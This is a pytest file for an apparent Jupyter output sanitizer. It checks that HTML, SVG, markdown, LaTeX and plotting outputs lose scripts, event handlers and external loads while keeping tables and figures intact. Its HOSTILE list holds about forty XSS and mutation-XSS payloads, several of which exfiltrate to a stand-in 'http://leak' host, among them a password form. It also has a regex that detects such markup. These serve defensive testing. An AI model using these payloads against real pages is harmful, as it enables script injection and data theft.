"""What an answer shows brings no script into the page, loads nothing from elsewhere, and stays what it is otherwise."""

from __future__ import annotations

import io
import re
import time
import xml.dom.minidom

import pandas as pd
import pytest

from llmos_jupyter.effects.displays.outputs import Output, show
from llmos_jupyter.effects.displays.safe_outputs import bundle, sentence
from tests.agent.rehearsal.shells import shell_with

SCRIPTS = re.compile(
    r"<script|<iframe|<object|<embed|<form|<meta|<base|<link|\son\w+=|javascript:|(?:src|href)=.?https?://[^ >]*leak"
    r"|url\(.?http|@import|data-commandlinker|<foreignobject|<animate|\\href",
    re.I,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//leak></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://leak/?data'>",
    "<img srcset='http://leak/?data 2x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<body background=http://leak onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>1</script>'>x</a>",
    "<a href='http://good' ping='http://leak'>x</a>",
    "<meta http-equiv=refresh content='0;url=http://leak'>",
    "<base href=http://leak><link rel=stylesheet href=http://leak>text",
    "<form action=http://leak><input name=password><button>go</button></form>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<object data=http://leak></object><embed src=http://leak>",
    "<video src=http://leak poster=http://leak></video><audio src=http://leak></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div data-commandlinker-command='runmenu:run-all' data-commandlinker-args='{}'>x</div>",
    "<style>@import 'http://leak';</style>text",
    "<style>td{background:url(http://leak)}</style>text",
    "<style>td{background:u\\72l(http://leak)}</style>text",
    "<style>td{background:image-set('http://leak' 1x)}</style>text",
    "<style>@font-face{font-family:x;src:url(http://leak)}</style>text",
    "<style>td{--a:url(http://leak);background:var(--a)}</style>text",
    "<style></style><script>alert(1)</script></style>text",
    "<style>a{content:'</style><img src=x onerror=alert(1)>'}</style>text",
    "<b style='background:url(\"http://leak\")'>x</b>",
    "<svg onload=alert(1)><circle r=3></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style>*{fill:url(http://leak#a)}</style><circle r=3></svg>",
    "<svg><use href='http://leak#a'/><image href='http://leak'/><circle fill='url(http://leak#a)'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
]


@pytest.mark.parametrize("kind", ["text/html", "image/svg+xml", "text/markdown"])
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_runs_or_loads_survives(kind: str, text: str) -> None:
    shown = bundle({kind: text, "text/plain": "p"})
    assert "text/plain" in shown.data
    for content in (value for name, value in shown.data.items() if name != "text/plain"):
        # A title is text: what looks like markup in it is none.
        found = SCRIPTS.search(re.sub(r'title="[^"]*"|&lt;.*', "", content))
        assert found is None, content


@pytest.mark.parametrize(
    "text", ["[x](javascript:alert(1))", "![](http://leak/?q)", "[x][1]\n\n[1]: javascript:alert(1)"]
)
def test_addresses_in_markdown_are_held_back_too(text: str) -> None:
    shown = bundle({"text/markdown": text})
    assert SCRIPTS.search(str(shown.data)) is None


@pytest.mark.parametrize("kind", ["text/html", "text/latex", "text/markdown"])
@pytest.mark.parametrize("word", ["href", "require", "style", "class", "cssId", "htmlData"])
def test_formulas_stay_formulas(kind: str, word: str) -> None:
    shown = bundle({kind: f"$\\{word}{{javascript:alert(1)}}{{x}} + \\frac{{1}}{{2}}$"})
    assert all("\\frac{1}{2}" in text and f"\\{word}" not in text for text in shown.data.values())


def test_plain_markdown_stays_markdown() -> None:
    text = "# Head\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n**bold** $x^2$ and `code`"
    assert bundle({"text/markdown": text}).data == {"text/markdown": text}


def test_tables_of_pandas_keep_their_looks() -> None:
    frame = pd.DataFrame({"a": [1, 2]}, index=pd.MultiIndex.from_tuples([("x", 1), ("x", 2)]))
    html = bundle({"text/html": frame._repr_html_()}).data["text/html"]
    assert '<table border="1" class="dataframe">' in html
    assert 'rowspan="2"' in html
    assert "vertical-align: top" in html
    assert "<b>x</b> &amp; y" in bundle({"text/html": "<p><b>x</b> &amp; y</p>"}).data["text/html"]


def test_stylers_keep_their_colours_and_style_nothing_else() -> None:
    html = '<style>#T_1 td, .c {color: red; position: fixed}\n:root {--a: 1px}</style><table id="T_1"><td class="c">1'
    shown = bundle({"text/html": html}).data["text/html"]
    scope = re.search(r'<div class="(llmos-\w+)">', shown)
    assert scope is not None
    assert f".{scope[1]} #T_1 td, .{scope[1]} .c {{color: red}}" in shown
    assert f".{scope[1]} {{--a: 1px}}" in shown
    assert '<td class="c">1' in shown
    assert 'id="T_1"' in shown


def test_a_picture_of_matplotlib_is_the_same_without_its_metadata() -> None:
    figure = pytest.importorskip("matplotlib.figure").Figure()
    figure.subplots().imshow([[1, 2]])
    file = io.StringIO()
    figure.savefig(file, format="svg")
    svg = bundle({"image/svg+xml": file.getvalue()}).data["image/svg+xml"]
    xml.dom.minidom.parseString(svg)
    assert svg.count("<path") == file.getvalue().count("<path")
    for part in ("viewBox=", 'clip-path="url(#', "data:image/png;base64", "stroke-linejoin: round", "clipPath"):
        assert part in svg
    assert "metadata" not in svg


def test_a_figure_of_plotly_comes_as_data_without_its_page() -> None:
    figure = {
        "data": [{"type": "bar", "y": [1], "text": "http://x"}],
        "layout": {"images": [{"source": "http://leak"}]},
    }
    shown = bundle({"application/vnd.plotly.v1+json": figure, "text/html": "<div id=v></div><script>draw()</script>"})
    assert list(shown.data) == ["application/vnd.plotly.v1+json"]
    assert shown.lost == []
    assert shown.data["application/vnd.plotly.v1+json"]["data"] == figure["data"]
    assert shown.data["application/vnd.plotly.v1+json"]["layout"] == {"images": [{"source": ""}]}


@pytest.mark.parametrize(
    "data",
    [
        {"application/javascript": "alert(1)"},
        {"text/html": "<div id=v></div><script>vegaEmbed()</script>"},
        {"application/vnd.bokehjs_exec.v0+json": "", "application/javascript": "alert(1)"},
        {"text/html": "<div>Make this Notebook Trusted<iframe srcdoc='x'></iframe></div>"},
        {"application/vnd.jupyter.widget-view+json": {"model_id": "none"}},
        {"application/pdf": "JVBERi0"},
    ],
)
def test_what_needs_a_script_is_said_to_be_left_out(data: dict[str, object]) -> None:
    shown = bundle({**data, "text/plain": "<Map>"})
    assert shown.data == {"text/plain": "<Map>"}
    assert "was left out" in sentence(shown.lost, "m")
    assert "`display(m)` in a cell of your own shows it" in sentence(shown.lost, "m")


def test_pictures_pass_and_metadata_keep_sizes_only() -> None:
    metadata = {"image/png": {"width": 3, "alt": "<b>"}, "text/html": {"isolated": True}, "needs_background": "light"}
    shown = bundle({"image/png": "iVBORw0KGgo=\n", "text/plain": "x"}, metadata)
    assert shown.data == {"image/png": "iVBORw0KGgo=\n", "text/plain": "x"}
    assert shown.metadata == {"image/png": {"width": 3}, "needs_background": "light"}
    assert bundle({"image/png": '"><script>'}).data == {}


def test_an_output_that_the_front_end_refuses_costs_no_other(capsys: pytest.CaptureFixture[str]) -> None:
    shell = shell_with()
    refused = shell.display_pub.publish

    def publish(data: dict[str, object], *args: object, **kwargs: object) -> None:
        raise TypeError(data)

    shell.display_pub.publish = publish
    try:
        show([Output("display", data={"text/plain": "a"}), Output("stream", "stdout", "b")], [], shell)
    finally:
        shell.display_pub.publish = refused
    said = capsys.readouterr()
    assert (said.out, said.err) == ("b", "An output could not be shown.\n")


def test_classes_of_the_page_itself_are_dropped() -> None:
    assert bundle({"text/html": '<p class="jp-Dialog lm-Widget mine">x</p>'}).data == {
        "text/html": '<p class="mine">x</p>'
    }


@pytest.mark.parametrize("kind", ["text/html", "image/svg+xml", "text/markdown"])
@pytest.mark.parametrize("part", ["<style ", "<style>", "<div>", "<svg>", "[", "*_", "<!--", "<style>@media a{"])
def test_cleaning_takes_little_time_whatever_it_is_given(kind: str, part: str) -> None:
    began = time.process_time()
    bundle({kind: part * 10_000 + "</style>x"})
    assert time.process_time() - began < 3
